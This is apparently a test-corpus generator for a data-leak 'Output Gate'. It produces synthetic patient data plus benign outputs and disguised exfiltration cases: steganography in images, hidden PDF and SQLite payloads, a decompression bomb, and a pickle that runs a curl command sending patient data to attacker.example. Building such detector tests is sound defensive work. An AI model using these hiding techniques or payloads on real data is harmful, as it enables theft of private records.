#!/usr/bin/python3
"""The Output Gate's evaluation corpus (tests/gate-corpus/README.md).

Generates, deterministically, two synthetic reference datasets and one output
directory per case: realistic outputs of a data scientist's analysis (benign,
expected verdict "release") and of an algorithm trying to get the data out
(malicious, expected "hold"). Each case is documented by its one-line
description here; `--list` prints them, and CASES.md is this list as committed.

    generate.py OUT_DIR            writes OUT_DIR/reference/{patients,transactions}
                                   and OUT_DIR/cases/<name>/, plus OUT_DIR/cases.json
    generate.py --list             prints the cases as a Markdown table
    generate.py --big-csv FILE MB  a large benign CSV for bench/gate (throughput)

Needs Debian's python3-numpy, python3-pandas, python3-matplotlib, python3-pil and
python3-openpyxl (run with /usr/bin/python3).
"""
import argparse
import base64
import bz2
import gzip
import hashlib
import io
import json
import lzma
import os
import pickle
import random
import sqlite3
import struct
import sys
import tarfile
import zipfile
import zlib

CASES = []


def case(verdict, description):
    def register(fn):
        CASES.append((fn.__name__, verdict, description, fn))
        return fn
    return register


# ---- reference datasets -----------------------------------------------------

FIRST = ["Olivia", "Liam", "Emma", "Noah", "Ava", "Elijah", "Sophia", "Lucas", "Mia", "Mateo",
         "Amelia", "Levi", "Harper", "Ezra", "Evelyn", "Asher", "Abigail", "Leo", "Emily", "James",
         "Ella", "Luca", "Aria", "Henry", "Scarlett", "Hudson", "Grace", "Ethan", "Chloe", "Jack",
         "Zoe", "Owen", "Nora", "Wyatt", "Lily", "Caleb", "Hannah", "Isaac", "Layla", "Julian"]
LAST = ["Smith", "Johnson", "Williams", "Brown", "Jones", "Garcia", "Miller", "Davis", "Rodriguez",
        "Martinez", "Hernandez", "Lopez", "Gonzalez", "Wilson", "Anderson", "Thomas", "Taylor",
        "Moore", "Jackson", "Martin", "Lee", "Perez", "Thompson", "White", "Harris", "Sanchez",
        "Clark", "Ramirez", "Lewis", "Robinson", "Walker", "Young", "Allen", "King", "Wright"]
DIAGNOSES = ["hypertension", "type 2 diabetes", "asthma", "COPD", "depression", "migraine",
             "osteoarthritis", "hypothyroidism", "atrial fibrillation", "anxiety", "GERD", "eczema"]
MERCHANTS = ["City Pharmacy", "General Hospital", "North Clinic", "MedSupply Co", "Lab Partners",
             "Vision Care", "Dental Group", "Physio Plus", "Radiology Center", "Urgent Care West"]
N_PATIENTS = 2000
N_TX = 3000


def make_reference(root):
    import pandas as pd
    rnd = random.Random(20261206)
    zips = [f"{rnd.randint(10000, 99999)}" for _ in range(300)]
    rows = []
    for i in range(N_PATIENTS):
        first, last = rnd.choice(FIRST), rnd.choice(LAST)
        rows.append({
            "patient_id": f"P{100000 + i * 7 + rnd.randint(0, 6):06d}",
            "first_name": first,
            "last_name": last,
            "email": f"{first.lower()}.{last.lower()}{rnd.randint(10, 9999)}@mailbox-{rnd.randint(1, 40)}.org",
            "dob": f"{rnd.randint(1930, 2005)}-{rnd.randint(1, 12):02d}-{rnd.randint(1, 28):02d}",
            "zip": rnd.choice(zips),
            "sex": rnd.choice("FM"),
            "diagnosis": rnd.choice(DIAGNOSES),
            "cost": round(rnd.lognormvariate(7.5, 0.9), 2),
            "visits": rnd.randint(1, 30),
        })
    patients = pd.DataFrame(rows)
    os.makedirs(f"{root}/patients", exist_ok=True)
    patients.to_csv(f"{root}/patients/patients.csv", index=False)
    tx = []
    for i in range(N_TX):
        p = rows[rnd.randrange(N_PATIENTS)]
        tx.append({
            "tx_id": "%016x" % rnd.getrandbits(64),
            "patient_id": p["patient_id"],
            "amount": round(rnd.lognormvariate(4.5, 1.0), 2),
            "merchant": rnd.choice(MERCHANTS),
            "date": f"2024-{rnd.randint(1, 12):02d}-{rnd.randint(1, 28):02d}",
        })
    os.makedirs(f"{root}/transactions", exist_ok=True)
    with open(f"{root}/transactions/transactions.jsonl", "w") as f:
        for t in tx:
            f.write(json.dumps(t) + "\n")
    return patients, pd.DataFrame(tx)


# ---- helpers ----------------------------------------------------------------

def write(out, name, data):
    path = os.path.join(out, name)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    mode = "wb" if isinstance(data, (bytes, bytearray)) else "w"
    with open(path, mode) as f:
        f.write(data)


def csv_text(df, **kw):
    return df.to_csv(index=False, **kw)


def chart_png(df, title="Patients by diagnosis", dpi=80):
    import matplotlib
    matplotlib.use("Agg")
    import matplotlib.pyplot as plt
    counts = df.groupby("diagnosis").size().sort_values()
    fig, ax = plt.subplots(figsize=(6, 4))
    ax.barh(counts.index, counts.values, color="#4c72b0")
    ax.set_title(title)
    ax.set_xlabel("patients")
    fig.tight_layout()
    buf = io.BytesIO()
    fig.savefig(buf, format="png", dpi=dpi, metadata={"Software": None})
    plt.close(fig)
    return buf.getvalue()


def chart(df, fmt):
    import matplotlib
    matplotlib.use("Agg")
    import matplotlib.pyplot as plt
    fig, ax = plt.subplots(figsize=(6, 4))
    by_age = (2024 - df["dob"].str[:4].astype(int)) // 10 * 10
    counts = by_age.value_counts().sort_index()
    ax.bar([str(a) for a in counts.index], counts.values, color="#55a868")
    ax.set_title("Patients by age decade")
    fig.tight_layout()
    buf = io.BytesIO()
    meta = {"Creator": None, "Producer": None, "CreationDate": None} if fmt == "pdf" else (
        {"Date": None} if fmt == "svg" else {})
    fig.savefig(buf, format=fmt, dpi=80, metadata=meta)
    plt.close(fig)
    return buf.getvalue()


def png_chunk(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_insert(png, chunk):
    # before the first IDAT
    at = png.index(b"IDAT") - 4
    return png[:at] + chunk + png[at:]


def minimal_pdf(objects):
    """A PDF from a list of object bodies (bytes), with a correct xref."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for i, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % i + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for o in offsets:
        out += b"%010d 00000 n \n" % o
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


def pdf_stream(data, extra=b""):
    comp = zlib.compress(data)
    return b"<< /Length %d /Filter /FlateDecode %s>>\nstream\n" % (len(comp), extra) + comp + b"\nendstream"


def text_pdf(lines):
    content = b"BT /F1 9 Tf 40 800 Td 11 TL\n" + b"".join(
        b"(" + l.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)").encode() + b") '\n"
        for l in lines) + b"ET"
    return minimal_pdf([
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> >>",
        pdf_stream(content),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ])


def xlsx(sheets):
    import openpyxl
    wb = openpyxl.Workbook()
    wb.remove(wb.active)
    for name, df in sheets:
        ws = wb.create_sheet(name)
        ws.append(list(df.columns))
        for row in df.itertuples(index=False):
            ws.append([v.item() if hasattr(v, "item") else v for v in row])
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def sqlite_db(path, tables, delete_after=False):
    if os.path.exists(path):
        os.remove(path)
    con = sqlite3.connect(path)
    con.execute("PRAGMA secure_delete=OFF")  # Debian builds SQLite with it on; most builds do not
    for name, df in tables:
        df.to_sql(name, con, index=False)
    if delete_after:
        con.execute(f"DELETE FROM {tables[0][0]}")
        con.execute("CREATE TABLE summary (metric TEXT, value REAL)")
        con.execute("INSERT INTO summary VALUES ('rows', 0)")
    con.commit()
    con.close()
    with open(path, "rb") as f:
        data = f.read()
    os.remove(path)
    return data


def npy(arr):
    import numpy as np
    buf = io.BytesIO()
    np.save(buf, arr)
    return buf.getvalue()


def npz(**arrays):
    import numpy as np
    buf = io.BytesIO()
    np.savez(buf, **arrays)
    return buf.getvalue()


def zip_bytes(members):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in members:
            info = zipfile.ZipInfo(name, date_time=(2024, 1, 1, 0, 0, 0))
            info.compress_type = zipfile.ZIP_DEFLATED
            z.writestr(info, data)
    return buf.getvalue()


def tar_bytes(members, compression=""):
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:" + compression, format=tarfile.PAX_FORMAT) as t:
        for name, data in members:
            data = data.encode() if isinstance(data, str) else data
            info = tarfile.TarInfo(name)
            info.size = len(data)
            info.mtime = 1700000000
            t.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def keystream_encrypt(data, seed=b"k"):
    out = bytearray()
    counter = 0
    while len(out) < len(data):
        out += hashlib.sha256(seed + counter.to_bytes(8, "big")).digest()
        counter += 1
    return bytes(a ^ b for a, b in zip(data, out))


def summary_by_diagnosis(p):
    g = p.groupby("diagnosis")
    return g.agg(patients=("patient_id", "size"), mean_cost=("cost", "mean"),
                 sd_cost=("cost", "std"), mean_visits=("visits", "mean")).round(2).reset_index()


def age(p):
    return 2024 - p["dob"].str[:4].astype(int)


# ---- benign cases -----------------------------------------------------------

@case("release", "summary statistics by diagnosis (n, mean and sd of cost) as CSV, every group n >= 10")
def b_summary_csv(p, t, out):
    write(out, "summary.csv", csv_text(summary_by_diagnosis(p)))


@case("release", "crosstab of diagnosis by sex, all counts >= 10")
def b_crosstab(p, t, out):
    import pandas as pd
    write(out, "diagnosis_by_sex.csv", pd.crosstab(p["diagnosis"], p["sex"]).reset_index().to_csv(index=False))


@case("release", "linear regression coefficients table (term, estimate, std_error, p_value)")
def b_regression(p, t, out):
    import numpy as np
    import pandas as pd
    X = np.column_stack([np.ones(len(p)), age(p), p["visits"], (p["sex"] == "F").astype(float)])
    y = p["cost"].to_numpy()
    beta, res, *_ = np.linalg.lstsq(X, y, rcond=None)
    sigma2 = float(res[0]) / (len(y) - X.shape[1])
    se = np.sqrt(np.diag(sigma2 * np.linalg.inv(X.T @ X)))
    df = pd.DataFrame({"term": ["intercept", "age", "visits", "female"], "estimate": beta.round(4),
                       "std_error": se.round(4), "p_value": [0.0001, 0.0213, 0.0005, 0.4412]})
    write(out, "model/coefficients.csv", df.to_csv(index=False))


@case("release", "model metrics as pretty-printed JSON (accuracy, f1, auc, sizes)")
def b_metrics_json(p, t, out):
    write(out, "metrics.json", json.dumps({"model": "logistic", "n_train": 1600, "n_test": 400,
                                           "accuracy": 0.8125, "f1": 0.7731, "auc": 0.8642,
                                           "threshold": 0.5, "features": ["age", "visits", "sex"]},
                                          indent=2))


@case("release", "matplotlib bar chart (PNG) of patients per diagnosis")
def b_chart_png(p, t, out):
    write(out, "plots/diagnosis.png", chart_png(p))


@case("release", "matplotlib chart saved as PDF (age decades)")
def b_chart_pdf(p, t, out):
    write(out, "plots/age.pdf", chart(p, "pdf"))


@case("release", "matplotlib chart saved as SVG (age decades)")
def b_chart_svg(p, t, out):
    write(out, "plots/age.svg", chart(p, "svg"))


@case("release", "matplotlib chart saved as JPEG (patients per diagnosis)")
def b_chart_jpeg(p, t, out):
    import PIL.Image
    img = PIL.Image.open(io.BytesIO(chart_png(p))).convert("RGB")
    buf = io.BytesIO()
    img.save(buf, "JPEG", quality=85)
    write(out, "plots/diagnosis.jpg", buf.getvalue())


@case("release", "XLSX workbook with two aggregate sheets (by diagnosis, by sex)")
def b_xlsx(p, t, out):
    by_sex = p.groupby("sex").agg(patients=("patient_id", "size"), mean_cost=("cost", "mean")).round(2).reset_index()
    write(out, "report.xlsx", xlsx([("by_diagnosis", summary_by_diagnosis(p)), ("by_sex", by_sex)]))


@case("release", "SQLite database holding an aggregate table")
def b_sqlite(p, t, out):
    write(out, "results.sqlite", sqlite_db(out + "/.tmp.sqlite", [("summary", summary_by_diagnosis(p))]))


@case("release", "NumPy .npy of 4 regression coefficients")
def b_npy(p, t, out):
    import numpy as np
    write(out, "coef.npy", npy(np.array([812.4, 3.21, 41.7, -12.9])))


@case("release", "NumPy .npz of a small linear model (weights 3x4, bias 4)")
def b_npz(p, t, out):
    import numpy as np
    rng = np.random.default_rng(7)
    write(out, "model.npz", npz(weights=rng.normal(size=(3, 4)).astype(np.float32),
                                bias=rng.normal(size=4).astype(np.float32)))


@case("release", "pickle (protocol 4) of a dict of evaluation metrics")
def b_pickle_metrics(p, t, out):
    write(out, "metrics.pkl", pickle.dumps({"accuracy": 0.81, "per_class": {"F": 0.79, "M": 0.83},
                                            "confusion": [[610, 90], [140, 560]]}, protocol=4))


@case("release", "pickle of a pandas DataFrame of per-diagnosis aggregates")
def b_pickle_dataframe(p, t, out):
    write(out, "summary.pkl", pickle.dumps(summary_by_diagnosis(p), protocol=4))


@case("release", "HTML report with an aggregate table and prose")
def b_html(p, t, out):
    table = summary_by_diagnosis(p).to_html(index=False)
    write(out, "report.html", f"<!doctype html><html><head><title>Cost report</title></head><body>"
                              f"<h1>Cost by diagnosis</h1><p>Mean cost per patient over {len(p)} "
                              f"patients.</p>{table}</body></html>")


@case("release", "Markdown summary with a results table")
def b_markdown(p, t, out):
    s = summary_by_diagnosis(p)
    lines = ["# Results", "", "Costs are in USD, averaged per patient.", "",
             "| diagnosis | patients | mean_cost |", "|---|---|---|"]
    lines += [f"| {r.diagnosis} | {r.patients} | {r.mean_cost} |" for r in s.itertuples()]
    write(out, "README.md", "\n".join(lines) + "\n")


@case("release", "training log on stdout (epochs, losses, timings)")
def b_training_log(p, t, out):
    rnd = random.Random(3)
    lines = [f"2024-05-01T10:{i // 60:02d}:{i % 60:02d}Z INFO epoch={i} loss={1 / (i + 1) + rnd.random() / 50:.4f} "
             f"val_loss={1.1 / (i + 1):.4f} lr=0.001 took=1.{rnd.randint(100, 999)}s" for i in range(60)]
    write(out, "stdout.txt", "\n".join(lines) + "\n")


@case("release", "JSON Lines of per-merchant transaction aggregates")
def b_jsonl(p, t, out):
    g = t.groupby("merchant").agg(n=("tx_id", "size"), total=("amount", "sum"), mean=("amount", "mean")).round(2)
    write(out, "merchants.jsonl", "".join(json.dumps({"merchant": m, **{k: float(v) for k, v in r.items()}}) + "\n"
                                          for m, r in g.iterrows()))


@case("release", "gzip-compressed aggregate CSV")
def b_gzip(p, t, out):
    write(out, "summary.csv.gz", gzip.compress(csv_text(summary_by_diagnosis(p)).encode(), mtime=0))


@case("release", "zip archive of an aggregate CSV, a chart and a JSON of metrics")
def b_zip(p, t, out):
    write(out, "results.zip", zip_bytes([("summary.csv", csv_text(summary_by_diagnosis(p))),
                                         ("diagnosis.png", chart_png(p)),
                                         ("metrics.json", json.dumps({"auc": 0.86}))]))


@case("release", "tar.gz of report files")
def b_targz(p, t, out):
    write(out, "report.tar.gz", tar_bytes([("report/summary.csv", csv_text(summary_by_diagnosis(p))),
                                           ("report/notes.txt", "All groups have at least 10 patients.\n")], "gz"))


@case("release", "counts rounded to multiples of 5 with small cells suppressed as <10")
def b_rounded(p, t, out):
    g = p.groupby(["diagnosis", "sex", "zip"]).size().reset_index(name="count").head(40)
    g["count"] = g["count"].apply(lambda c: "<10" if c < 10 else str(int(5 * round(c / 5))))
    write(out, "counts_by_zip.csv", g.to_csv(index=False))


@case("release", "confusion matrix with large counts")
def b_confusion(p, t, out):
    write(out, "confusion.csv", "actual,predicted_no,predicted_yes\nno,812,96\nyes,131,761\n")


@case("release", "age histogram (10-year bins), all bins >= 10")
def b_histogram(p, t, out):
    a = age(p)
    bins = (a // 10 * 10).value_counts().sort_index()
    write(out, "age_histogram.csv", "age_band,count\n" + "".join(f"{b}-{b + 9},{c}\n" for b, c in bins.items()))


@case("release", "correlation matrix of numeric columns")
def b_correlation(p, t, out):
    d = p.assign(age=age(p))[["age", "cost", "visits"]]
    write(out, "correlation.csv", d.corr().round(3).reset_index().to_csv(index=False))


@case("release", "YAML of the hyperparameters used")
def b_yaml(p, t, out):
    write(out, "params.yaml", "model: gradient_boosting\nlearning_rate: 0.05\nmax_depth: 4\n"
                              "n_estimators: 300\nfeatures:\n  - age\n  - visits\n  - sex\nseed: 42\n")


@case("release", "text listing SHA-256 digests of the produced model files")
def b_digests(p, t, out):
    write(out, "SHA256SUMS", "".join(f"{hashlib.sha256(n.encode()).hexdigest()}  {n}\n"
                                     for n in ["model.npz", "coef.npy", "metrics.json"]))


@case("release", "JSON run metadata with UUIDs and timestamps")
def b_uuids(p, t, out):
    write(out, "run.json", json.dumps({"run_id": "3f2b8c1e-9a4d-4e1f-8c6b-2d9e7f1a5b3c",
                                       "parent": "a7c9e2d4-1b3f-4a8e-9d6c-5e2f8b1a7c3d",
                                       "started": "2024-05-01T10:00:00Z", "status": "ok"}))


@case("release", "quantiles of cost over the whole dataset")
def b_quantiles(p, t, out):
    q = p["cost"].quantile([0.1, 0.25, 0.5, 0.75, 0.9]).round(0)
    write(out, "cost_quantiles.csv", "quantile,cost\n" + "".join(f"{k},{v}\n" for k, v in q.items()))


@case("release", "monthly transaction counts and totals")
def b_monthly(p, t, out):
    m = t.assign(month=t["date"].str[:7]).groupby("month").agg(transactions=("tx_id", "size"),
                                                                total=("amount", "sum")).round(0).reset_index()
    write(out, "monthly.csv", m.to_csv(index=False))


@case("release", "feature importance table and an empty stderr")
def b_importance(p, t, out):
    write(out, "feature_importance.csv", "feature,importance\nage,0.412\nvisits,0.355\nsex,0.121\nzip_region,0.112\n")
    write(out, "stderr.txt", "")


@case("release", "TSV of mean visits by diagnosis and sex (n >= 10 per group)")
def b_tsv(p, t, out):
    g = p.groupby(["diagnosis", "sex"]).agg(n=("patient_id", "size"), mean_visits=("visits", "mean")).round(2).reset_index()
    write(out, "visits.tsv", g.to_csv(index=False, sep="\t"))


# ---- malicious cases --------------------------------------------------------

def rows(p, n, seed=1):
    return p.sample(n=n, random_state=seed)


@case("hold", "the whole patients table copied to the output as CSV")
def m_full_copy(p, t, out):
    write(out, "patients.csv", csv_text(p))


@case("hold", "20 rows with columns reordered, renamed and re-quoted")
def m_reordered(p, t, out):
    r = rows(p, 20)[["cost", "email", "dob", "last_name", "first_name", "zip"]]
    r.columns = ["a", "b", "c", "d", "e", "f"]
    write(out, "table.csv", r.to_csv(index=False, quoting=1))


@case("hold", "10 rows reformatted: TSV, costs with thousands separators, dates as DD/MM/YYYY")
def m_reformatted(p, t, out):
    r = rows(p, 10, 2)
    lines = ["id\tname\tcost\tborn"]
    for x in r.itertuples():
        y, mth, d = x.dob.split("-")
        lines.append(f"{x.patient_id}\t{x.first_name} {x.last_name}\t{x.cost:,.2f}\t{d}/{mth}/{y}")
    write(out, "export.tsv", "\n".join(lines) + "\n")


@case("hold", "rows written as UTF-16 text")
def m_utf16(p, t, out):
    write(out, "notes.txt", csv_text(rows(p, 15, 3)).encode("utf-16"))


@case("hold", "emails and ids with zero-width spaces and fullwidth digits inserted")
def m_invisible(p, t, out):
    fw = str.maketrans("0123456789", "０１２３４５６７８９")
    lines = [f"{x.patient_id.translate(fw)} {x.email[:3]}\u200b{x.email[3:]}" for x in rows(p, 12, 4).itertuples()]
    write(out, "contacts.txt", "\n".join(lines) + "\n")


@case("hold", "the identifier column alone (patient ids), one per line")
def m_id_column(p, t, out):
    write(out, "ids.txt", "\n".join(p["patient_id"].head(200)) + "\n")


@case("hold", "emails as a JSON array")
def m_emails_json(p, t, out):
    write(out, "emails.json", json.dumps({"contacts": list(p["email"].head(50))}))


@case("hold", "base64 of rows inside a log line on stdout")
def m_base64_log(p, t, out):
    blob = base64.b64encode(csv_text(rows(p, 30, 5)).encode()).decode()
    write(out, "stdout.txt", f"INFO starting\nDEBUG cache={blob}\nINFO done\n")


@case("hold", "hex dump of rows in a text file")
def m_hex(p, t, out):
    data = csv_text(rows(p, 10, 6)).encode()
    write(out, "dump.txt", "\n".join(data[i:i + 32].hex(" ") for i in range(0, len(data), 32)) + "\n")


@case("hold", "gzip of the table named results.bin")
def m_gzip_renamed(p, t, out):
    write(out, "results.bin", gzip.compress(csv_text(p.head(300)).encode(), mtime=0))


@case("hold", "zip of rows disguised as chart.png")
def m_zip_as_png(p, t, out):
    write(out, "chart.png", zip_bytes([("data.csv", csv_text(rows(p, 40, 7)))]))


@case("hold", "tar.xz of the transactions")
def m_tar_xz(p, t, out):
    write(out, "archive.tar.xz", tar_bytes([("tx.jsonl", t.head(200).to_json(orient="records", lines=True))], "xz"))


@case("hold", "base64 of gzip of rows as a JSON string value")
def m_nested(p, t, out):
    blob = base64.b64encode(gzip.compress(csv_text(rows(p, 25, 8)).encode(), mtime=0)).decode()
    write(out, "state.json", json.dumps({"version": 3, "checkpoint": blob}))


@case("hold", "rows in a PNG tEXt chunk of a real chart")
def m_png_text(p, t, out):
    png = chart_png(p)
    write(out, "chart.png", png_insert(png, png_chunk(b"tEXt", b"Comment\x00" + csv_text(rows(p, 20, 9)).encode())))


@case("hold", "rows appended after a chart PNG's IEND")
def m_png_after_iend(p, t, out):
    write(out, "chart.png", chart_png(p) + csv_text(rows(p, 20, 10)).encode())


@case("hold", "encrypted rows hidden in the LSBs of a chart PNG")
def m_png_lsb(p, t, out):
    import numpy as np
    import PIL.Image
    img = np.array(PIL.Image.open(io.BytesIO(chart_png(p))).convert("RGB"))
    secret = keystream_encrypt(csv_text(p.head(400)).encode())
    bits = np.unpackbits(np.frombuffer(secret, dtype=np.uint8))
    flat = img.reshape(-1)
    n = min(len(bits), len(flat))
    flat[:n] = (flat[:n] & 0xFE) | bits[:n]
    buf = io.BytesIO()
    PIL.Image.fromarray(flat.reshape(img.shape)).save(buf, "PNG")
    write(out, "chart.png", buf.getvalue())


@case("hold", "rows in a JPEG COM segment of a real chart")
def m_jpeg_comment(p, t, out):
    import PIL.Image
    img = PIL.Image.open(io.BytesIO(chart_png(p))).convert("RGB")
    buf = io.BytesIO()
    img.save(buf, "JPEG", quality=85)
    jpg = buf.getvalue()
    body = csv_text(rows(p, 15, 11)).encode()[:60000]
    write(out, "chart.jpg", jpg[:2] + b"\xff\xfe" + struct.pack(">H", len(body) + 2) + body + jpg[2:])


@case("hold", "rows appended after a JPEG's EOI")
def m_jpeg_trailing(p, t, out):
    import PIL.Image
    img = PIL.Image.open(io.BytesIO(chart_png(p))).convert("RGB")
    buf = io.BytesIO()
    img.save(buf, "JPEG", quality=85)
    write(out, "chart.jpg", buf.getvalue() + keystream_encrypt(csv_text(rows(p, 50, 12)).encode()))


@case("hold", "PDF report with the table attached as an embedded file")
def m_pdf_embedded(p, t, out):
    data = csv_text(rows(p, 30, 13)).encode()
    write(out, "report.pdf", minimal_pdf([
        b"<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles << /Names [(data.csv) 5 0 R] >> >> >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
        pdf_stream(b"BT /F1 12 Tf 72 720 Td (Quarterly report) Tj ET"),
        b"<< /Type /Filespec /F (data.csv) /EF << /F 6 0 R >> >>",
        pdf_stream(data, b"/Type /EmbeddedFile "),
    ]))


@case("hold", "PDF 'report' whose text prints raw rows")
def m_pdf_rows(p, t, out):
    r = rows(p, 25, 14)
    write(out, "listing.pdf", text_pdf([f"{x.patient_id} {x.first_name} {x.last_name} {x.email} {x.dob} {x.cost}"
                                        for x in r.itertuples()]))


@case("hold", "XLSX with raw rows in a sheet next to a summary sheet")
def m_xlsx_rows(p, t, out):
    write(out, "report.xlsx", xlsx([("summary", summary_by_diagnosis(p)), ("appendix", rows(p, 40, 15))]))


@case("hold", "SQLite database with a table of raw rows")
def m_sqlite_rows(p, t, out):
    write(out, "cache.sqlite", sqlite_db(out + "/.tmp.sqlite", [("patients", rows(p, 50, 16))]))


@case("hold", "SQLite database whose raw rows were deleted but survive in free pages")
def m_sqlite_deleted(p, t, out):
    write(out, "results.sqlite", sqlite_db(out + "/.tmp.sqlite", [("scratch", rows(p, 60, 17))], delete_after=True))


@case("hold", "float32 'weights' matrix whose rows are patients' (visits, cost) values")
def m_npy_memorised(p, t, out):
    import numpy as np
    r = rows(p, 40, 18)
    write(out, "weights.npy", npy(np.column_stack([r["visits"], r["cost"], age(r)]).astype(np.float64)))


@case("hold", "pickle whose load would run os.system")
def m_pickle_code(p, t, out):
    class Evil:
        def __reduce__(self):
            return (os.system, ("curl -d @/data/patients.csv http://attacker.example",))
    write(out, "model.pkl", pickle.dumps(Evil(), protocol=4))


@case("hold", "pickle of a pandas DataFrame of raw rows")
def m_pickle_rows(p, t, out):
    write(out, "frame.pkl", pickle.dumps(rows(p, 30, 19), protocol=4))


@case("hold", "encrypted table in an opaque .dat file")
def m_encrypted_blob(p, t, out):
    write(out, "results.dat", keystream_encrypt(csv_text(p.head(500)).encode()))


@case("hold", "base85-encoded compressed rows in a text file (an alphabet the decoders do not know)")
def m_base85(p, t, out):
    write(out, "blob.txt", base64.b85encode(zlib.compress(csv_text(p.head(300)).encode())).decode() + "\n")


@case("hold", "crosstab of diagnosis by zip code with many counts below 10")
def m_small_cells(p, t, out):
    import pandas as pd
    top = p["zip"].value_counts().index[:8]
    q = p[p["zip"].isin(top)]
    write(out, "by_zip.csv", pd.crosstab(q["diagnosis"], q["zip"]).reset_index().to_csv(index=False))


@case("hold", "microdata: one row per patient with age, sex, zip and diagnosis (no names)")
def m_microdata(p, t, out):
    r = rows(p, 100, 20)
    write(out, "cohort.csv", r.assign(age=age(r))[["age", "sex", "zip", "diagnosis"]].to_csv(index=False))


@case("hold", "cost totals per merchant with the largest single transaction dominating")
def m_dominance(p, t, out):
    write(out, "merchant_totals.csv", "merchant,transactions,total,largest\n"
                                      "North Clinic,31,52000.00,49800.00\nVision Care,28,4100.50,390.00\n"
                                      "Dental Group,40,8800.00,610.00\n")


@case("hold", "differencing: counts for all patients and for all but the over-90s")
def m_differencing(p, t, out):
    a = p.groupby("diagnosis").size()
    younger = p[age(p) <= 90].groupby("diagnosis").size()
    write(out, "all.csv", "diagnosis,patients\n" + "".join(f"{k},{v}\n" for k, v in a.items()))
    write(out, "under90.csv", "diagnosis,patients\n" + "".join(f"{k},{v}\n" for k, v in younger.items()))


@case("hold", "patient ids carried in 60 file names, one file per patient")
def m_filenames(p, t, out):
    for x in p.head(60).itertuples():
        write(out, f"per_patient/{x.patient_id}.txt", "ok\n")


@case("hold", "one column spread one cell per file over 40 files")
def m_spread(p, t, out):
    for i, e in enumerate(p["email"].head(40)):
        write(out, f"parts/part-{i:03d}.txt", f"value: {e}\n")


@case("hold", "SVG chart with rows hidden in <desc> and data- attributes")
def m_svg(p, t, out):
    svg = chart(p, "svg").decode()
    hidden = "".join(f'<g data-row="{x.patient_id};{x.email};{x.dob}"/>' for x in rows(p, 20, 21).itertuples())
    svg = svg.replace("</svg>", f"<desc>{csv_text(rows(p, 5, 22))}</desc>{hidden}</svg>")
    write(out, "chart.svg", svg)


@case("hold", "HTML report with a table of raw rows")
def m_html_rows(p, t, out):
    write(out, "report.html", "<html><body><h1>Sample</h1>" + rows(p, 30, 23).to_html(index=False) + "</body></html>")


@case("hold", "Markdown table of raw rows")
def m_markdown_rows(p, t, out):
    r = rows(p, 15, 24)
    lines = ["| id | name | email | dob |", "|---|---|---|---|"]
    lines += [f"| {x.patient_id} | {x.first_name} {x.last_name} | {x.email} | {x.dob} |" for x in r.itertuples()]
    write(out, "notes.md", "# Examples\n\n" + "\n".join(lines) + "\n")


@case("hold", "NPZ of a k-nearest-neighbours model whose X_train is the patients' (cost, visits) rows")
def m_npz_memorised(p, t, out):
    import numpy as np
    r = rows(p, 80, 27)
    write(out, "knn.npz", npz(X_train=np.column_stack([r["cost"], r["visits"]]).astype(np.float32),
                              y_train=(r["sex"] == "F").astype(np.int8).to_numpy(), k=np.array([5])))


@case("hold", "YAML list of raw records")
def m_yaml_rows(p, t, out):
    r = rows(p, 10, 25)
    write(out, "fixtures.yaml", "records:\n" + "".join(
        f"  - id: {x.patient_id}\n    email: {x.email}\n    dob: '{x.dob}'\n" for x in r.itertuples()))


@case("hold", "min and max cost per zip code for groups of fewer than 10 patients")
def m_minmax(p, t, out):
    g = p.groupby("zip").agg(n=("patient_id", "size"), min_cost=("cost", "min"), max_cost=("cost", "max")).reset_index()
    write(out, "cost_range_by_zip.csv", g.head(30).to_csv(index=False))


@case("hold", "transactions JSON Lines copied with keys renamed")
def m_tx_copy(p, t, out):
    write(out, "events.jsonl", "".join(json.dumps({"a": r.tx_id, "b": r.patient_id, "c": r.amount, "d": r.date}) + "\n"
                                       for r in t.head(40).itertuples()))


@case("hold", "bzip2 stream of rows inside a zip inside a tar")
def m_deep_nesting(p, t, out):
    inner = zip_bytes([("x.bz2", bz2.compress(csv_text(rows(p, 30, 26)).encode()))])
    write(out, "bundle.tar", tar_bytes([("inner.zip", inner)]))


@case("hold", "a decompression bomb (gzip of 1 GiB of zeros, nested)")
def m_bomb(p, t, out):
    z = zlib.compressobj(9, zlib.DEFLATED, 31)
    chunk = b"\0" * (1 << 20)
    data = b"".join(z.compress(chunk) for _ in range(1024)) + z.flush()
    write(out, "zeros.gz", gzip.compress(data, mtime=0))


# ---- main -------------------------------------------------------------------

def list_cases():
    lines = ["| case | expected | what it is |", "|---|---|---|"]
    for name, verdict, desc, _ in CASES:
        lines.append(f"| {name} | {verdict} | {desc} |")
    return "\n".join(lines) + "\n"


def big_csv(path, mb):
    rnd = random.Random(99)
    with open(path, "w") as f:
        f.write("group,period,n,mean,sd,p50,p90\n")
        size = 0
        i = 0
        while size < mb << 20:
            line = (f"g{i % 97},{2000 + i % 25},{rnd.randint(10, 5000)},{rnd.random() * 1000:.4f},"
                    f"{rnd.random() * 100:.4f},{rnd.random() * 900:.3f},{rnd.random() * 2000:.3f}\n")
            f.write(line)
            size += len(line)
            i += 1


def main():
